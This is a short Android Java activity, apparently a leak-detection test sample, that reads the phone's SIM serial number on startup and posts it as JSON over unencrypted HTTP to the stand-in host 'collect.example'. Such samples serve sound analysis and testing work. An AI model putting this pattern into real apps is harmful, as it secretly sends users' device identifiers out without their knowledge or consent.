package org.example.flows.libs;

import android.app.Activity;
import android.os.Bundle;
import com.google.gson.Gson;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import org.example.flows.Device;

public class ByOkHttp extends Activity {
    static class Record {
        String card;
        String word;
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Record record = new Record();
        record.word = "plain";
        record.card = Device.phone(this).getSimSerialNumber();
        String json = new Gson().toJson(record);
        RequestBody body = RequestBody.create(MediaType.parse("application/json"), json);
        Request request = new Request.Builder().url("http://collect.example/json").post(body).build();
        new OkHttpClient().newCall(request).enqueue(null);
    }
}
